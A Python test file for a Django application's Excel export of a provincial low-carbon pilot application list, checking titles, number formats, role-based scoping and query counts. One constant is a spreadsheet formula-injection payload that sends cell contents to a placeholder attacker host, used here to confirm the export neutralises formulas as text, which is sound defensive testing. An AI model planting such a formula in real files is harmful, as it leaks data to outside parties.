"""The application list's Excel file, read back with openpyxl: a sheet named 申报书列表 with title and
scope rows, 序号 instead of the database id, the key figures as numbers with their formats, the time of
submission as a date-time, the same status words as the list page, and the city's opinion written as
text even when it looks like a formula."""

import datetime
import re
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from applications import services
from applications.models import AnnualBaseline, Application

from .. import export_checks
from ..conftest import LANTIAN, SHIQUAN
from ..factories import complete_application, county

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"详见附件")'
LIST = reverse("applications:list")


def forwarded(applicant, city, *, code=SHIQUAN, opinion="同意推荐", rank=1) -> Application:
    application = complete_application(organisation=county(code))
    base = AnnualBaseline.objects.get(application=application, year=application.batch.base_year)
    base.non_fossil_share = Decimal("18.75")
    base.save()
    services.application_submit(application=application, by=applicant)
    services.application_recommend(application=application, by=city, opinion=opinion, rank=rank)
    services.application_forward(application=application, by=city)
    application.refresh_from_db()
    return application


def test_the_provinces_file_is_an_official_table_with_typed_key_figures(
    applicant_county, city_ankang, province, client_for
):
    application = forwarded(applicant_county, city_ankang, opinion=HYPERLINK)
    client = client_for(province)
    table = export_checks.read_response(client.get(LIST + "?export=xlsx"))["申报书列表"]

    export_checks.assert_well_formed(table, sheet="申报书列表", title_contains="申报书列表")
    assert table.title == "陕西省低碳近零碳试点示范建设申报书列表"
    assert table.scope.startswith("范围：全省；数据截至")
    assert table.header[:4] == ["序号", "批次", "申报单位", "类型"]
    record = table.rows[0]
    assert record["序号"] == 1 and len(table.rows) == 1
    assert record["申报单位"] == "石泉县人民政府"
    assert record["基准年"] == application.batch.base_year
    # 1000 t raw coal (1,900.30 t) + 50,000 万kWh × 6.335 t/万kWh (316,750 t), as in the Annex 1 tests
    assert record["基准年二氧化碳排放（吨）"] == 318650.30
    assert record["基准年非化石能源消费占比"] == pytest.approx(0.1875)
    assert record["重点项目总投资（万元）"] == 8000
    assert record["预计年减排（吨CO₂）"] == 15000
    assert record["重点项目数"] == 1

    export_checks.assert_numbers(table, "基准年", "0")
    export_checks.assert_numbers(table, "市内排序", "0")
    export_checks.assert_numbers(table, "重点项目数", "#,##0")
    for money_or_tonnes in (
        "基准年地区生产总值（亿元）",
        "基准年二氧化碳排放（吨）",
        "基准年综合能耗（吨标准煤）",
        "重点项目总投资（万元）",
        "预计年减排（吨CO₂）",
    ):
        export_checks.assert_numbers(table, money_or_tonnes, "#,##0.00")
    export_checks.assert_numbers(table, "单位GDP二氧化碳排放（吨/万元）", "#,##0.0000")
    export_checks.assert_numbers(table, "基准年非化石能源消费占比", "0.00%")
    export_checks.assert_datetimes(table, "提交时间", 'yyyy"年"m"月"d"日" hh:mm')
    submitted = timezone.localtime(application.submitted_at).replace(tzinfo=None, second=0, microsecond=0)
    assert abs(record["提交时间"] - submitted) < datetime.timedelta(minutes=1)
    export_checks.assert_fits(table, "申报单位")

    # The status is the list page's word for this application.
    page = client.get(LIST).text
    shown = re.search(r'<span class="state state-forwarded">([^<]+)</span>', page).group(1)
    assert record["状态"] == shown == "已报送省厅"

    # The city's opinion looked like a formula: it stays text (no formula, quote-prefixed).
    opinion = table.cells_of("市级推荐意见")[0]
    assert opinion.value == HYPERLINK
    assert opinion.data_type == "s" and opinion.quotePrefix


def test_a_citys_file_holds_its_own_applications_and_says_so(
    applicant_county, applicant_xian, city_ankang, city_xian, client_for
):
    forwarded(applicant_county, city_ankang)
    forwarded(applicant_xian, city_xian, code=LANTIAN)
    table = export_checks.read_response(client_for(city_ankang).get(LIST + "?export=xlsx&state=forwarded"))[
        "申报书列表"
    ]
    export_checks.assert_well_formed(table, sheet="申报书列表", title_contains="申报书列表")
    assert table.column("申报单位") == ["石泉县人民政府"]
    assert table.column("所属市（区）") == ["安康市"]
    assert table.scope.startswith("范围：安康市；筛选条件：状态：已报送省厅；数据截至")


def test_an_empty_list_still_exports_its_header(province, client_for):
    table = export_checks.read_response(client_for(province).get(LIST + "?export=xlsx"))["申报书列表"]
    export_checks.assert_well_formed(table, sheet="申报书列表", title_contains="申报书列表")
    assert table.rows == [] and "基准年二氧化碳排放（吨）" in table.header


def test_the_file_runs_a_fixed_number_of_queries(
    applicant_county, applicant_xian, city_ankang, city_xian, province, client_for
):
    client = client_for(province)

    def queries() -> int:
        client.get(LIST + "?export=xlsx")  # warm caches (content types, session)
        with CaptureQueriesContext(connection) as captured:
            assert client.get(LIST + "?export=xlsx").status_code == 200
        return len(captured)

    forwarded(applicant_county, city_ankang)
    one = queries()
    forwarded(applicant_xian, city_xian, code=LANTIAN)
    assert queries() == one


def test_an_applicants_file_is_scoped_to_its_organisation(applicant_county, city_ankang, expert, client_for):
    forwarded(applicant_county, city_ankang)
    table = export_checks.read_response(client_for(applicant_county).get(LIST + "?export=xlsx"))["申报书列表"]
    assert table.column("申报单位") == ["石泉县人民政府"]
    assert table.scope.startswith("范围：石泉县人民政府；数据截至")
    table = export_checks.read_response(client_for(expert).get(LIST + "?export=xlsx"))["申报书列表"]
    assert table.rows == [] and table.scope.startswith("范围：本账号可查看的记录；")
